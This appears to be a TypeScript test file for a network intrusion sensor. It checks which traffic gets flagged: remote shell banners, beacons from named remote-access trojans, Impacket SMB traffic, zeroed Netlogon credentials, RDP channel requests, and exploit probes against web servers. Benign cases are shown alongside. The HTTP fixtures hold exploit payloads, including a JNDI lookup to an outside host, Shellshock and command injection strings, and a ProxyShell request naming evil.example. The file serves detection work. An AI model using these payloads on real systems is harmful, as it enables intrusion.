// Marks that the sensor finds in content, and their ordinary neighbours.
import { describe, expect, it } from 'vitest'
import { bytesOf } from '../decode/packets.fixture.ts'
import { analysisOf, type Message } from './conversation.fixture.ts'
import {
  le32,
  netbios,
  ntlmAuthenticate,
  rpcBind,
  rpcPdu,
  smb2,
  smb2SetupRequest,
  spnego,
} from './windows-messages.fixture.ts'

const marksOf = (port: number, ...messages: Message[]) => analysisOf('tcp', port, messages)?.content_marks ?? []
const client = (content: Message['content']): Message => ({ from: '>', content })
const server = (content: Message['content']): Message => ({ from: '<', content })
const zeros = (count: number) => new Array<number>(count).fill(0)

describe('first bytes of a flow in no known protocol', () => {
  const program = [...bytesOf('MZ'), ...zeros(58), ...le32(128), ...zeros(64)]
  it.each<[string, Message]>([
    ['windows_shell', client('Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft')],
    ['windows_shell', server('\r\nC:\\Windows\\system32>')],
    ['unix_shell', server('uid=0(root) gid=0(root) groups=0(root)\n')],
    ['unix_shell', client('bash: cannot set terminal process group (611): Inappropriate ioctl\n')],
    ['program', server(program)],
    ['staged_program', server([...le32(175_174), ...program])],
    ['gh0st_packet', client([...bytesOf('Gh0st'), ...le32(170), ...le32(228), 0x78, 0x9c, ...zeros(20)])],
    ['njrat_packet', client("149\0ll|'|'|SGFjS2Vk|'|'|PC")],
    ['rat_greeting', client('ping|STRRAT|5CB1|PC|user')],
    ['remcos_packet', client([0x24, 4, 0xff, 0, ...zeros(20)])],
    ['netwire_packet', client([0x41, 0, 0, 0, 0x99, ...zeros(64)])],
    ['redline_packet', client([0, 1, 0, 1, 2, 2, 0x1c, ...bytesOf('net.tcp://198.51.100.7:6677/')])],
    ['mirai_packet', client([0, 0, 0, 1])],
    ['irc_bot_nick', client('NICK [USA|XP|4857291]\r\nUSER bot 0 0 :x\r\n')],
    ['java_object', client([0xac, 0xed, 0, 5, ...zeros(40)])],
  ])('are marked as %s', (mark, message) => expect(marksOf(7707, message)).toContain(mark))

  it.each<[string, Message]>([
    ['text', client('hello there, this is a game of mine')],
    ['a telnet greeting', server('Welcome to Microsoft Telnet Service \r\nlogin: ')],
    ['a word about Windows', server('This machine runs Microsoft Windows [Version 10]')],
    ['a person in a chat', client('NICK anna\r\nUSER anna 0 * :Anna\r\n')],
    ['a person with a number', client('NICK anna1984\r\nUSER anna 0 * :Anna\r\n')],
    ['a length and noise', client([...le32(175_174), ...zeros(60)])],
    ['five letters', client([...bytesOf('HELLO'), ...le32(170), ...le32(228), 1, 2, 3, 4])],
    [
      'letters in capitals with MZ',
      client('MZ is a way to begin a text that is no program at all, as this shows it to be'),
    ],
  ])('are not marked in %s', (_, message) => expect(marksOf(7707, message)).toEqual([]))
})

describe('Windows protocols', () => {
  const negotiate = (guid: number[]) =>
    client(netbios(smb2({ command: 0, body: [36, 0, 1, 0, 1, 0, 0, 0, ...zeros(4), ...guid, ...zeros(10)] })))
  it('show the client identifier of Impacket, and no other', () => {
    expect(marksOf(445, negotiate(bytesOf('phqoejlFRIaWexNa')))).toEqual(['smb_guid_of_letters'])
    expect(marksOf(445, negotiate(bytesOf('phqoejlFRIaWexN1')))).toEqual([])
  })

  it('show a log-on that names no machine', () => {
    const logOn = (host: string) => client(netbios(smb2SetupRequest(spnego(ntlmAuthenticate('ana', 'CORP', host)))))
    expect(marksOf(445, logOn(''))).toEqual(['ntlm_without_host'])
    expect(marksOf(445, logOn('PC7'))).toEqual([])
  })

  it.each([
    [4, [...zeros(8)], 1],
    [4, [1, 2, 3, 4, 5, 6, 7, 8], 0],
    [26, [...zeros(8), 0xff, 0xff, 0x2f, 0x21], 1],
    [26, [9, 2, 3, 4, 5, 6, 7, 8, 0xff, 0xff, 0x2f, 0x21], 0],
  ])('show a Netlogon challenge or credential of zeros: operation %i', (operation, tail, count) => {
    const NETLOGON = '12345678-1234-abcd-ef00-01234567cffb'
    const stub = [...bytesOf('some arguments before it'), ...tail]
    const call = rpcPdu({ type: 0, body: [...zeros(4), 0, 0, operation, 0, ...stub] })
    expect(marksOf(49_667, client(rpcBind([NETLOGON])), client(call))).toHaveLength(count)
  })
})

describe('an RDP client', () => {
  const request = [3, 0, 0, 19, 14, 0xe0, 0, 0, 0, 0, 0, 1, 0, 8, 0, 0, 0, 0, 0]
  const confirm = [3, 0, 0, 19, 14, 0xd0, 0, 0, 0x12, 0x34, 0, 2, 0, 8, 0, 0, 0, 0, 0]
  it.each([
    ['MS_T120', 1],
    ['rdpsnd', 0],
  ])('that asks for the channel %s', (channel, count) => {
    const conference = [3, 0, 1, 0xca, 2, 0xf0, 0x80, 0x7f, 0x65, ...zeros(40), ...bytesOf(channel), ...zeros(20)]
    expect(marksOf(3389, client(request), server(confirm), client(conference))).toHaveLength(count)
  })
})

it('marks a mail client that declines the encryption it is offered', () => {
  const greeting = server('220 mx.example ESMTP\r\n')
  const offer = server('250-mx.example\r\n250-STARTTLS\r\n250 AUTH LOGIN\r\n')
  const without = server('250-mx.example\r\n250 AUTH LOGIN\r\n')
  const [hello, log] = [client('EHLO pc\r\n'), client('AUTH LOGIN YW5h\r\n')]
  expect(marksOf(587, greeting, hello, offer, log)).toEqual(['smtp_tls_declined'])
  expect(marksOf(587, greeting, hello, without, log)).toEqual([])
})

describe('an HTTP request', () => {
  const ask = (target: string, headers = '', body = '') =>
    client(`POST ${target} HTTP/1.1\r\nHost: a.example\r\n${headers}Content-Length: ${body.length}\r\n\r\n${body}`)
  it.each<[string, Message]>([
    ['http_log4shell', ask('/', `X-Api-Version: \${jndi:ldap://198.51.100.9/a}\r\n`)],
    ['http_shellshock', ask('/cgi-bin/status', 'Referer: () { :; }; /bin/id\r\n')],
    [
      'http_spring4shell',
      ask('/helloworld', '', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
    ],
    ['http_escaped_traversal', ask('/cgi-bin/.%2e/.%2e/.%2e/bin/sh', '', 'echo;id')],
    ['http_f5_management', ask('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp')],
    ['http_proxyshell', ask('/autodiscover/autodiscover.json?@evil.example/mapi/nspi/')],
    ['http_http_sys', ask('/', 'Accept-Encoding: aaa, bbb, ccc, ,\r\n')],
    ['http_device_command', ask('/GponForm/diag_Form?images/', '', 'XWebPageName=diag&dest_host=`wget`')],
  ])('is marked as %s', (mark, message) => expect(marksOf(80, message)).toContain(mark))

  it.each<[string, Message]>([
    [
      'a browser',
      ask('/search?q=union+select', 'Accept-Encoding: gzip, deflate, br\r\nUser-Agent: Mozilla/5.0 (X11)\r\n'),
    ],
    ['a template in a form', ask('/save', '', `text=Dear \${name}, (see) { this };`)],
    ['a mailbox that is found', ask('/autodiscover/autodiscover.xml')],
  ])('is not marked in %s', (_, message) => expect(marksOf(80, message)).toEqual([]))

  it('is marked wherever it stands in a connection', () =>
    expect(
      marksOf(
        80,
        ask('/'),
        server('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'),
        ask('/x', `X: \${jndi:rmi://a}\r\n`),
      ),
    ).toEqual(['http_log4shell']))
})
